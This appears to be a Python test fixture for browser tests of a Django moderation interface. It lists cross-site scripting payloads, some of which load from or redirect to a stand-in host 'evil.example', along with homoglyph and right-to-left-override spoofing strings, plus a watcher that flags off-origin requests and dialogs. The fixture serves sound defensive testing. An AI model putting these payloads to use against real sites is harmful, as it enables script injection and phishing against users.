@@ -1,0 +1,89 @@
+"""What the browser tests play on: cases with hostile and honest posts, and pages of people who signed in."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from django.test import Client
+from playwright.sync_api import BrowserContext, Page
+
+from moderation.models import User
+
+# Trial 17: what has worked against somebody, somewhere. Every one calls alert or leaves the page's origin.
+MARKUP = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<a href="javascript:alert(1)">click</a> [click](javascript:alert(1))',
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css';</style>",
+    "<div hx-get='http://evil.example/' hx-trigger='load'></div><div hx-on::load='alert(1)'></div>",
+    "<div data-key='s' v-html='alert(1)' ng-app>{{constructor.constructor('alert(1)')()}}</div>",
+    "{% load static %}{{ request.user.password }}${alert(1)}#{alert(1)}",
+    '"><img src=http://evil.example/pixel.gif><"',
+    "' onmouseover='alert(1)' style='position:fixed;inset:0' autofocus onfocus='alert(1)",
+    "<form action=http://evil.example><button data-key=f>x</button></form><base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "</textarea></title></script></dialog><script>alert(1)</script>",
+    "<template><img src=x onerror=alert(1)></template><!--><img src=x onerror=alert(1)>-->",
+)
+# Trial 18: what deceives the eye or breaks out of its box.
+SPOOFS = (
+    "invoice_\u202egpj.exe\u202c and \u2066isolates\u2069",
+    "fr\u200be\u200be p\u0430yp\u0430l 𝗙𝗥𝗘𝗘 \U000e0041\U000e0042",
+    "https://paypal.com@evil.example/ https://раураl.example/ http://0x7f.1/",
+    "W" * 20_000,
+    "a" + "\u0301" * 10_000,
+    "\n".join("line" for _ in range(3_000)),
+)
+
+
+@dataclass
+class Watch:
+    """What a page did that it must not do."""
+
+    origin: str
+    off_origin: list[str] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
+    complaints: list[str] = field(default_factory=list)
+
+    def over(self, page: Page) -> Page:
+        """Watch a page from now on."""
+        page.on("request", lambda request: self._requested(request.url))
+        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss())[0])
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        page.on("console", lambda line: self._said(line.type, line.text))
+        return page
+
+    @property
+    def findings(self) -> list[str]:
+        """Everything that was seen; empty is good."""
+        return [*self.off_origin, *self.dialogs, *self.complaints]
+
+    def _requested(self, url: str) -> None:
+        if not url.startswith((self.origin, "data:", "blob:")):
+            self.off_origin.append(url)
+
+    def _said(self, kind: str, text: str) -> None:
+        if kind == "error":
+            self.complaints.append(text)
+
+
+def sign_in(context: BrowserContext, user: User, origin: str) -> None:
+    """Give a browser the session of a person."""
+    client = Client()
+    client.force_login(user)
+    context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": origin}])
+
+
+def press_and_wait(page: Page, key: str) -> None:
+    """Press a key and wait until another case, or none, is in front."""
+    before = page.evaluate("document.querySelector('[data-case]')?.dataset.case ?? ''")
+    page.keyboard.press(key)
+    page.wait_for_function(
+        "before => (document.querySelector('[data-case]')?.dataset.case ?? '') !== before", arg=before
+    )
